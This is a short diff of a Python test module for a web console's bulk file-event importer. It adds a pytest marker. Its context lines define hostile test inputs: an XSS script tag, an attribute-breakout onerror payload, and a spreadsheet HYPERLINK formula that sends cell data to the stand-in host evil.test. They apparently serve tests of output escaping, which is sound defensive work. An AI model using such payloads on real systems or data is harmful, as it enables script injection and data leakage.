@@ -19,6 +19,8 @@ from webconsole.models import Device, FileEvent, IngestError, User
 from webconsole.models.base import utcnow
 from webconsole.store.event_import import import_file
 
+pytestmark = pytest.mark.committed  # the bulk importer loads on a connection of its own
+
 SCRIPT = "<script>alert('x')</script>"
 ATTRIBUTE = '"><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
